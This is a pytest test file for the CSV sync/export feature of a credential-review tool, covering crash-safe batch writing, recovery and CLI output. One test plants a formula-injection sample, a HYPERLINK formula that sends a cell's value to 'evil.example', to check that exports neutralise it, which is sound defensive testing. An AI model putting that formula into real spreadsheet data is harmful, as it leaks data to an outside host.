"""Sync: CSV batches that go out once each, survive a crash at any step, and stay safe to open."""

from __future__ import annotations

import csv
import errno
import json
import os
import re
from collections import Counter
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import SAMPLE_DIR, SPECS_DIR, dump, ppr_record, sql, sql_row, sql_write, write_yaml

from mcreview.cli import cli
from mcreview.core.scoring import EARNED, NOT_YET
from mcreview.core.vocabulary import Status
from mcreview.services import importer, sync
from mcreview.services.export.base import Batch
from mcreview.services.export.csvformat import BOM, neutralise, render_csv, restore
from mcreview.services.session import ReviewSession
from mcreview.store import open_store

PPR = "positive-professional-relationships"
PPR_TITLE = "Positive Professional Relationships"
PASSING = {
    "overview": "Passing",
    "action-plan": "Proficient",
    "case-study": "Proficient",
    "reflection": "Passing",
}
PPR_PARTS = {"overview": "1", "action-plan": "2", "case-study": "2", "reflection": "3"}
DECISION_HEADER = [
    "batch",
    "submission_id",
    "credential",
    "candidate",
    "assessor",
    "decision",
    "decided_at",
    "revision",
    "override",
    "comment",
    "attempt",
    "computed",
    "justification",
    "credential_title",
    "credential_version",
    "rubric_hash",
    "readers",
    "resolution",
    "part1",
    "part1_title",
    "part2",
    "part2_title",
    "part3",
    "part3_title",
]
PPR_PART_TITLES = {"1": "Overview Questions", "2": "Work Examples/Artifacts/Evidence", "3": "Reflection"}
PPR_TITLES = {
    "overview": "Overview questions",
    "action-plan": "Artifact 1: Action Plan",
    "case-study": "Artifact 2: Case Study",
    "reflection": "Reflection",
}
SCORE_HEADER = [
    "batch",
    "submission_id",
    "revision",
    "part",
    "component",
    "level",
    "passing",
    "comment",
    "assessor",
    "attempt",
    "reading",
    "part_title",
    "component_title",
    "rubric_version",
]


class Crash(BaseException):
    """Stands in for the process dying: sync catches OSError, never this."""


class FaultyFs(sync.FileOps):
    """Real file operations, except that the chosen call of one step fails."""

    def __init__(self, step: str, call: int = 1, error: BaseException | None = None) -> None:
        self.step = step
        self.call = call
        self.error = error if error is not None else Crash(f"{step} #{call}")
        self.seen: Counter[str] = Counter()

    def _fails(self, step: str) -> bool:
        self.seen[step] += 1
        return step == self.step and self.seen[step] == self.call

    def write(self, path: Path, data: bytes) -> None:
        if self._fails("write"):
            if isinstance(self.error, OSError):  # a full disk fails part-way through a file
                path.write_bytes(data[: len(data) // 2])
            raise self.error
        super().write(path, data)

    def fsync(self, path: Path) -> None:
        if self._fails("fsync"):
            raise self.error
        super().fsync(path)

    def rename(self, source: Path, target: Path) -> None:
        if self._fails("rename"):
            raise self.error
        super().rename(source, target)

    def fsync_dir(self, path: Path) -> None:
        if self._fails("fsync_dir"):
            raise self.error
        super().fsync_dir(path)


# The steps of writing one batch, in order, and the visible files each leaves behind.
CRASH_POINTS = [
    pytest.param("write", 1, set(), id="before-temp-write"),
    pytest.param("fsync", 1, set(), id="after-temp-write-before-fsync"),
    pytest.param("rename", 1, set(), id="after-fsync-before-rename"),
    pytest.param("rename", 2, {"scores"}, id="after-first-rename"),
    pytest.param("fsync_dir", 1, {"scores", "decisions"}, id="after-both-renames-before-db-mark"),
]


@pytest.fixture
def dest(tmp_path: Path) -> Path:
    folder = tmp_path / "outbox"
    folder.mkdir()
    return folder


@pytest.fixture
def queued(database, specs, tmp_path):
    records = [ppr_record("PPR-T-001"), ppr_record("PPR-T-002", candidate="C-10002")]
    paths = [write_yaml(tmp_path, f"{r['id']}.yaml", r) for r in records]
    report = importer.import_paths(database, paths, specs)
    assert report.ok
    return [r["id"] for r in records]


def grade(
    database, submission_id: str, levels: dict[str, str], comments: dict[str, str] | None = None
) -> None:
    for component, level in levels.items():
        ReviewSession(database, "ana").set_level(submission_id, component_id=component, level=level)
    for component, body in (comments or {}).items():
        ReviewSession(database, "ana").set_comment(submission_id, component_id=component, body=body)


@pytest.fixture
def decided(database, queued):
    """Two decisions: an Earned with awkward comments, and a Not Yet override."""
    first, second = queued
    grade(
        database,
        first,
        PASSING,
        {
            "overview": 'Clear, "specific" goals,\nwell argued; see line two.',
            "case-study": "Ünïcode ✓ — naïve café, 日本語",
        },
    )
    ReviewSession(database, "ana").decide(first, comment='Well evidenced, "thorough".\r\nThank you.')
    grade(database, second, PASSING)
    ReviewSession(database, "ana").decide(
        second, comment="Part 2 reads as copied.", outcome=NOT_YET, justification="Similarity report attached"
    )
    return queued


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def read_dicts(path: Path) -> list[dict[str, str]]:
    csv.field_size_limit(2**31 - 1)  # whatever the export wrote, a receiver must read back
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def visible(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith("."))


def hidden(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


def exported_keys(folder: Path) -> list[tuple[str, int, int]]:
    """Every decision row in every decisions file, in batch order."""
    return [
        (row["submission_id"], int(row.get("attempt") or 1), int(row["revision"]))
        for name in visible(folder)
        if name.startswith("decisions-")
        for row in read_dicts(folder / name)
    ]


def sync_state(database) -> tuple:
    return (
        sql(database, "SELECT * FROM sync_batches ORDER BY id"),
        sql(database, "SELECT * FROM sync_batch_decisions ORDER BY 1, 2, 3, 4"),
        sql(database, "SELECT id, status FROM submissions ORDER BY id"),
        sql_row(database, "SELECT count(*) FROM events WHERE action LIKE 'sync%'"),
    )


def unsynced(database, fmt: str = "csv") -> list[tuple[str, int, int]]:
    """Decision revisions no finished batch of this format carries."""
    return sql(
        database,
        "SELECT submission_id, attempt, revision FROM decisions d WHERE NOT EXISTS (SELECT 1"
        " FROM sync_batch_decisions m JOIN sync_batches b ON b.id = m.batch WHERE b.format = ?"
        " AND b.finished_at IS NOT NULL AND m.submission_id = d.submission_id AND m.attempt = d.attempt"
        " AND m.revision = d.revision) ORDER BY 1, 2, 3",
        (fmt,),
    )


def test_round_trip_of_every_column(database, decided, dest):
    first, second = decided
    result = sync.sync(database, dest, "coordinator")
    assert result.batch == 1 and result.scores == 8
    assert sorted(result.decisions) == [(first, 1, 1), (second, 1, 1)]
    names = visible(dest)
    assert len(names) == 2 and hidden(dest) == []
    decisions_name, scores_name = names
    stem = re.fullmatch(r"decisions-(000001-\d{8}T\d{6}Z\.csv)", decisions_name).group(1)
    assert scores_name == f"scores-{stem}"
    assert result.files == [dest / decisions_name, dest / scores_name]

    raw = (dest / decisions_name).read_bytes()
    assert raw.startswith(b'\xef\xbb\xbf"batch","submission_id","credential"') and raw.endswith(b"\r\n")
    assert (dest / scores_name).read_bytes().startswith(b'\xef\xbb\xbf"batch",')
    assert raw.count(b"\r\n") == 4  # header, two rows, and the CRLF inside one comment

    stored = dict(sql(database, "SELECT submission_id, decided_at FROM decisions"))
    spec_hash = sql_row(database, "SELECT DISTINCT spec_hash FROM decisions")[0]
    version = sql_row(database, "SELECT version FROM specs WHERE hash = ?", (spec_hash,))[0]
    rubric = [PPR_TITLE, version, spec_hash, "ana", "single"]
    parts = [cell for n in ("1", "2", "3") for cell in ("pass", PPR_PART_TITLES[n])]
    header, *rows = read_csv(dest / decisions_name)
    assert header == DECISION_HEADER
    assert sorted(rows) == [
        [
            "1",
            first,
            PPR,
            "C-10001",
            "ana",
            EARNED,
            stored[first],
            "1",
            "no",
            'Well evidenced, "thorough".\r\nThank you.',
            "1",
            EARNED,
            "",
            *rubric,
            *parts,
        ],
        [
            "1",
            second,
            PPR,
            "C-10002",
            "ana",
            NOT_YET,
            stored[second],
            "1",
            "yes",
            "Part 2 reads as copied.",
            "1",
            EARNED,  # the award rule's outcome, which the assessor overrode
            "Similarity report attached",
            *rubric,
            *parts,
        ],
    ]
    assert all(datetime.fromisoformat(row[6]).utcoffset() is not None for row in rows)

    header, *rows = read_csv(dest / scores_name)
    assert header == SCORE_HEADER
    comments = {
        "overview": 'Clear, "specific" goals,\nwell argued; see line two.',
        "case-study": "Ünïcode ✓ — naïve café, 日本語",
    }
    expected = [
        [
            *["1", sid, "1", PPR_PARTS[c], c, level, "yes", comments.get(c, "") if sid == first else ""],
            *["ana", "1", "1", PPR_PART_TITLES[PPR_PARTS[c]], PPR_TITLES[c], version],
        ]
        for sid in (first, second)
        for c, level in PASSING.items()
    ]
    assert sorted(rows) == sorted(expected)

    batch = sql(
        database,
        "SELECT id, started_at, finished_at, destination, decisions, scores, files, assessor, format"
        " FROM sync_batches",
    )
    assert len(batch) == 1
    assert batch[0][0] == 1 and batch[0][2] >= batch[0][1]
    assert batch[0][3:] == (
        str(dest.resolve()),
        2,
        8,
        json.dumps([decisions_name, scores_name]),
        "coordinator",
        "csv",
    )
    carried = sql(database, "SELECT * FROM sync_batch_decisions ORDER BY 1, 2, 3, 4")
    assert sorted(carried) == [(1, first, 1, 1), (1, second, 1, 1)]
    assert unsynced(database) == []
    statuses = sql(database, "SELECT DISTINCT status FROM submissions")
    assert statuses == [(Status.SYNCED,)]
    (event,) = sql(
        database, "SELECT assessor, submission_id, target, after FROM events WHERE action = 'sync'"
    )
    assessor, submission_id, target, after = event
    assert (assessor, submission_id, target) == ("coordinator", None, "batch 1")
    assert json.loads(after)["files"] == [decisions_name, scores_name]


def test_outcome_text_passes_through_and_part_columns_fit_the_widest_row(database, decided, dest):
    """Later features write other outcomes and other part counts; sync copies what is stored."""
    first, second = decided
    sql_write(
        database,
        "UPDATE decisions SET outcome = 'returned_identifiable', part_outcomes = '{\"1\": \"incomplete\"}'"
        " WHERE submission_id = ?",
        (first,),
    )
    sql_write(
        database,
        'UPDATE decisions SET part_outcomes = \'{"1": "pass", "4": "fail"}\' WHERE submission_id = ?',
        (second,),
    )
    sync.sync(database, dest, "ana")
    rows = {r["submission_id"]: r for r in read_dicts(dest / visible(dest)[0])}
    assert list(rows[first])[-8:] == [f"part{n}{title}" for n in range(1, 5) for title in ("", "_title")]
    assert rows[first]["decision"] == "returned_identifiable"
    assert [rows[first][f"part{n}"] for n in range(1, 5)] == ["incomplete", "", "", ""]
    assert [rows[second][f"part{n}"] for n in range(1, 5)] == ["pass", "", "", "fail"]
    # A title is the rubric's: part 4 is not in this one, so its title is empty.
    assert [rows[second][f"part{n}_title"] for n in range(1, 5)] == [*PPR_PART_TITLES.values(), ""]


def test_incremental_runs_revisions_and_all(database, decided, dest):
    first, second = decided
    assert sync.sync(database, dest, "ana").batch == 1
    before = sync_state(database)

    again = sync.sync(database, dest, "ana")
    assert (again.batch, again.decisions, again.files) == (None, [], [])
    assert len(visible(dest)) == 2 and sync_state(database) == before

    assert ReviewSession(database, "ana").reopen(first) == 2
    assert sync.sync(database, dest, "ana").decisions == []  # reopened, not yet decided again
    ReviewSession(database, "ana").set_level(first, component_id="case-study", level="Basic")
    ReviewSession(database, "ana").decide(first, comment="The case study needs the six principles.")
    revised = sync.sync(database, dest, "ana")
    assert (revised.batch, revised.decisions, revised.scores) == (2, [(first, 1, 2)], 4)
    batch2 = [n for n in visible(dest) if "-000002-" in n]
    assert len(batch2) == 2
    (row,) = read_dicts(dest / batch2[0])
    assert (row["batch"], row["revision"], row["decision"], row["part2"]) == ("2", "2", NOT_YET, "fail")
    levels = {r["component"]: (r["revision"], r["level"]) for r in read_dicts(dest / batch2[1])}
    assert levels["case-study"] == ("2", "Basic")
    state = ReviewSession(database, "reader").load(first)
    assert (state.status, state.revision) == (Status.SYNCED, 2)

    everything = sync.sync(database, dest, "ana", everything=True)
    assert everything.batch == 3
    assert sorted(everything.decisions) == [(first, 1, 1), (first, 1, 2), (second, 1, 1)]
    assert sorted(exported_keys(dest)) == sorted(
        [(first, 1, 1), (second, 1, 1), (first, 1, 2), *everything.decisions]
    )
    carried = sql(database, "SELECT batch, count(*) FROM sync_batch_decisions GROUP BY batch ORDER BY batch")
    assert carried == [(1, 2), (2, 1), (3, 3)]  # every batch keeps what it carried
    assert sync.sync(database, dest, "ana").decisions == []
    assert visible(dest) == sorted(visible(dest), key=lambda n: (n.split("-")[0], int(n.split("-")[1])))


def test_dry_run_writes_nothing_and_changes_nothing(database, decided, dest):
    before = dump(database)
    result = sync.sync(database, dest, "ana", dry_run=True)
    assert result.dry_run and result.batch is None and result.files == []
    assert sorted(result.decisions) == [(decided[0], 1, 1), (decided[1], 1, 1)] and result.scores == 8
    assert list(dest.iterdir()) == []
    assert dump(database) == before


@pytest.mark.parametrize(("step", "call", "left_visible"), CRASH_POINTS)
def test_a_crash_at_any_step_loses_and_repeats_nothing(database, decided, dest, step, call, left_visible):
    fs = FaultyFs(step, call)
    with pytest.raises(Crash):
        sync.sync(database, dest, "ana", fs=fs)
    assert fs.seen[step] == call  # the crash happened where the test meant it to

    # The folder holds no partial file under a final name, and no batch is half visible.
    assert {name.split("-")[0] for name in visible(dest)} == left_visible
    for name in visible(dest):
        assert len(read_csv(dest / name)) == (3 if name.startswith("decisions") else 9)
    assert all(name.startswith(".") and name.endswith(".csv.tmp") for name in hidden(dest))
    # The database still has both decisions unsynced; only the batch number is taken.
    assert unsynced(database) == [(decided[0], 1, 1), (decided[1], 1, 1)]
    assert sql(database, "SELECT DISTINCT status FROM submissions") == [(Status.DECIDED,)]
    assert sql(database, "SELECT id, finished_at FROM sync_batches") == [(1, None)]

    rerun = sync.sync(database, dest, "ana")
    (interrupted,) = rerun.interrupted
    assert interrupted.batch == 1
    if left_visible == {"scores", "decisions"}:  # the batch went out: record it, do not send it again
        assert interrupted.reached_destination and rerun.batch is None
    else:  # the batch never appeared: discard it and send its decisions in the next one
        assert not interrupted.reached_destination and rerun.batch == 2
    assert hidden(dest) == []
    assert sorted(exported_keys(dest)) == [(decided[0], 1, 1), (decided[1], 1, 1)]  # each exactly once
    stems = Counter(name.split("-", 1)[1] for name in visible(dest))
    assert len(stems) == 1 and set(stems.values()) == {2}  # one complete pair
    assert unsynced(database) == []
    finished = sql(database, "SELECT id, decisions, scores FROM sync_batches")
    assert finished == [(rerun.batch or 1, 2, 8)]
    assert sql_row(database, "SELECT count(*) FROM sync_batches WHERE finished_at IS NULL") == (0,)
    assert sql(database, "SELECT DISTINCT status FROM submissions") == [(Status.SYNCED,)]


@pytest.mark.parametrize(
    ("step", "call"),
    [("write", 1), ("write", 2), ("fsync", 2), ("rename", 1), ("rename", 2)],
)
def test_full_disk_leaves_folder_and_database_as_they_were(database, decided, dest, step, call):
    before = sync_state(database)
    full = OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    with pytest.raises(sync.SyncError) as raised:
        sync.sync(database, dest, "ana", fs=FaultyFs(step, call, full))
    assert str(raised.value) == f"{dest}: cannot write the batch files: No space left on device"
    assert list(dest.iterdir()) == []
    assert sync_state(database) == before
    assert sync.sync(database, dest, "ana").batch is not None  # and the next run sends it all
    assert sorted(exported_keys(dest)) == [(decided[0], 1, 1), (decided[1], 1, 1)]


def test_error_after_both_renames_is_recorded_by_the_next_sync(database, decided, dest):
    failing = OSError(errno.EIO, os.strerror(errno.EIO))
    with pytest.raises(sync.SyncError, match="batch 1 is written but could not be confirmed"):
        sync.sync(database, dest, "ana", fs=FaultyFs("fsync_dir", 1, failing))
    assert len(visible(dest)) == 2 and len(unsynced(database)) == 2
    rerun = sync.sync(database, dest, "ana")
    assert [i.reached_destination for i in rerun.interrupted] == [True]
    assert rerun.batch is None and unsynced(database) == []
    assert len(exported_keys(dest)) == 2


def test_the_file_is_neutralised_as_each_cell_would_be():
    """render_csv neutralises the written text in one pass: the same bytes as neutralise()
    on every text cell, whatever the cells hold (quotes, commas, line ends, triggers)."""
    import io
    import random

    def cell_by_cell(rows: list[list[object]]) -> bytes:
        buffer = io.StringIO(newline="")
        buffer.write(BOM)
        writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
        writer.writerow(["h", "i"])
        writer.writerows([neutralise(c) if isinstance(c, str) else c for c in row] for row in rows)
        return buffer.getvalue().encode("utf-8")

    rng = random.Random(15)
    pieces = ["=", "+", "-", "@", "\t", "\r", "'", '"', ",", "\n", "a", " ", "\r\n", '""', ',"']
    for _ in range(3000):
        rows: list[list[object]] = [
            [
                "".join(rng.choice(pieces) for _ in range(rng.randrange(6)))
                if rng.random() < 0.8
                else rng.choice([0, 1, 7, None])
                for _ in range(rng.randrange(1, 5))
            ]
            for _ in range(rng.randrange(1, 4))
        ]
        assert render_csv(["h", "i"], rows) == cell_by_cell(rows), rows


def test_formulas_are_neutralised(database, queued, dest):
    first, second = queued
    formulas = {
        "overview": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "action-plan": "+1",
        "case-study": "-2",
        "reflection": "@SUM(A1:A9)",
    }
    grade(database, first, PASSING, formulas)
    ReviewSession(database, "ana").decide(first, comment="'=already quoted")
    grade(database, second, PASSING)
    ReviewSession(database, "ana").decide(second, comment="fine")
    # set_comment and decide strip whitespace, so a leading tab or CR can only come from stored data.
    sql_write(database, "UPDATE decisions SET comment = ? WHERE submission_id = ?", ("\tx", second))
    sql_write(database, "UPDATE scores SET level = ? WHERE submission_id = ?", ("\rx", second))
    sync.sync(database, dest, "ana")
    decisions_file, scores_file = visible(dest)

    comments = {r["submission_id"]: r["comment"] for r in read_dicts(dest / decisions_file)}
    assert comments == {first: "''=already quoted", second: "'\tx"}
    scores = read_dicts(dest / scores_file)
    for row in scores:
        if row["submission_id"] == first:
            assert row["comment"] == "'" + formulas[row["component"]]
            assert restore(row["comment"]) == formulas[row["component"]]
        else:
            assert row["level"] == "'\rx"
    assert {restore(c) for c in comments.values()} == {"'=already quoted", "\tx"}
    assert neutralise("2026-10-01T12:00:00+00:00") == "2026-10-01T12:00:00+00:00"
    assert neutralise("C-10001") == "C-10001"


def test_missing_destination_is_not_created(database, decided, tmp_path):
    missing = tmp_path / "nowhere"
    before = sync_state(database)
    with pytest.raises(sync.SyncError, match=r"nowhere: does not exist \(create the folder first\)$"):
        sync.sync(database, missing, "ana")
    assert not missing.exists() and sync_state(database) == before


def test_destination_that_is_a_file(database, decided, tmp_path):
    target = tmp_path / "a-file.csv"
    target.write_text("x", encoding="utf-8")
    with pytest.raises(sync.SyncError, match="a-file.csv: is not a directory$"):
        sync.sync(database, target, "ana")
    assert target.read_text(encoding="utf-8") == "x"


def test_read_only_destination(database, decided, dest):
    before = sync_state(database)
    dest.chmod(0o555)
    try:
        if os.access(dest, os.W_OK):
            pytest.skip("running as root: chmod does not stop writes (see the injected-fs test below)")
        with pytest.raises(sync.SyncError, match="outbox: is not writable$"):
            sync.sync(database, dest, "ana")
    finally:
        dest.chmod(0o755)
    assert sync_state(database) == before


def test_read_only_destination_through_the_file_operations(database, decided, dest):
    """What a write refused by the filesystem looks like, whoever runs the tests."""
    before = sync_state(database)
    denied = PermissionError(errno.EACCES, os.strerror(errno.EACCES))
    with pytest.raises(sync.SyncError, match="outbox: cannot write the batch files: Permission denied$"):
        sync.sync(database, dest, "ana", fs=FaultyFs("write", 1, denied))
    assert list(dest.iterdir()) == [] and sync_state(database) == before


def test_one_sync_at_a_time(database, db_target, decided, dest):
    before = sync_state(database)
    other = open_store(db_target)  # another process mid-sync holds the queue's sync lock
    try:
        with (
            other.exclusive("sync"),
            pytest.raises(sync.SyncError, match="another sync of this queue is running"),
        ):
            sync.sync(database, dest, "ana")
    finally:
        other.close()
    assert list(dest.iterdir()) == [] and sync_state(database) == before
    assert sync.sync(database, dest, "ana").batch == 1


def test_a_file_name_already_taken_is_never_overwritten(database, decided, dest, monkeypatch):
    monkeypatch.setattr(Batch, "stem", property(lambda batch: f"{batch.number:06d}-X"))
    (dest / "decisions-000001-X.csv").write_bytes(b"another queue's batch\r\n")
    before = sync_state(database)
    with pytest.raises(sync.SyncError, match="decisions-000001-X.csv: already exists"):
        sync.sync(database, dest, "ana")
    assert sync_state(database) == before
    assert (dest / "decisions-000001-X.csv").read_bytes() == b"another queue's batch\r\n"
    assert visible(dest) == ["decisions-000001-X.csv"] and hidden(dest) == []


@pytest.fixture
def run(db_target):
    runner = CliRunner()

    def invoke(*args: str):
        return runner.invoke(
            cli, ["--db", str(db_target), "--specs", str(SPECS_DIR), "--assessor", "ana", *args]
        )

    return invoke


def test_cli(run, database, decided, dest, tmp_path):
    missing = run("sync", str(tmp_path / "nowhere"))
    assert missing.exit_code == 1
    assert missing.output == f"Error: {tmp_path / 'nowhere'}: does not exist (create the folder first)\n"

    dry = run("sync", "--dry-run", str(dest))
    assert dry.exit_code == 0, dry.output
    assert dry.output.splitlines() == [
        f"would sync 2 decisions, 8 scores to {dest}:",
        *sorted(f"  {sid} revision 1" for sid in decided),
        "dry run: nothing written",
    ]
    assert list(dest.iterdir()) == []

    first = run("sync", str(dest))
    assert first.exit_code == 0, first.output
    lines = first.output.splitlines()
    assert lines[0] == "batch 1: 2 decisions, 8 scores"
    assert lines[1:] == [f"  {dest / name}" for name in visible(dest)]

    again = run("sync", str(dest))
    assert (again.exit_code, again.output) == (0, "nothing new to sync\n")

    everything = run("sync", "--all", str(dest))
    assert everything.exit_code == 0 and everything.output.startswith("batch 2: 2 decisions, 8 scores\n")
    assert len(visible(dest)) == 4


def test_cli_reports_a_recovered_batch(run, database, decided, dest):
    with pytest.raises(Crash):
        sync.sync(database, dest, "ana", fs=FaultyFs("fsync_dir"))
    files = {name: (dest / name).read_bytes() for name in visible(dest)}
    before = dump(database)
    dry = run("sync", "--dry-run", str(dest))
    assert dry.exit_code == 0
    assert dry.output.splitlines() == [
        f"would record interrupted batch 1: 2 decisions, 8 scores already in {dest / visible(dest)[0]}",
        "nothing new to sync",  # its decisions are already in the folder: they will not go out again
    ]
    assert dump(database) == before
    assert {name: (dest / name).read_bytes() for name in visible(dest)} == files
    result = run("sync", str(dest))
    assert result.exit_code == 0
    assert result.output.splitlines() == [
        f"recorded interrupted batch 1: 2 decisions, 8 scores already in {dest / visible(dest)[0]}",
        "nothing new to sync",
    ]


def first_level(component, passing: bool) -> str:
    return next(level for level in component.scale.levels if (level in component.scale.passing) == passing)


def test_end_to_end_on_the_sample_queue(database, specs, dest):
    report = importer.import_paths(database, [SAMPLE_DIR], specs)
    assert report.ok
    queued = [row[0] for row in sql(database, "SELECT id FROM submissions ORDER BY id")]
    assert len(queued) >= 2
    chosen = queued[:2]
    expected_scores = {}
    for n, submission_id in enumerate(chosen):
        spec = ReviewSession(database, "reader").load(submission_id).spec
        scored = [c for c in spec.components if c.scored]
        levels = {c.id: first_level(c, passing=True) for c in scored}
        if n == 1:  # the second falls short on one component
            levels[scored[0].id] = first_level(scored[0], passing=False)
        grade(database, submission_id, levels)
        ReviewSession(database, "ana").decide(submission_id, comment="Feedback for the candidate.")
        expected_scores[submission_id] = {c.id: levels[c.id] for c in scored}

    result = sync.sync(database, dest, "ana")
    decisions_file, scores_file = visible(dest)
    decisions = read_dicts(dest / decisions_file)
    assert sorted(r["submission_id"] for r in decisions) == chosen
    assert {r["submission_id"]: r["decision"] for r in decisions} == {chosen[0]: EARNED, chosen[1]: NOT_YET}
    scores: dict[str, dict[str, str]] = {}
    for row in read_dicts(dest / scores_file):
        scores.setdefault(row["submission_id"], {})[row["component"]] = row["level"]
    assert scores == expected_scores
    assert result.scores == sum(len(levels) for levels in expected_scores.values())
    statuses = dict(sql(database, "SELECT id, status FROM submissions"))
    assert {sid for sid, status in statuses.items() if status == Status.SYNCED} == set(chosen)
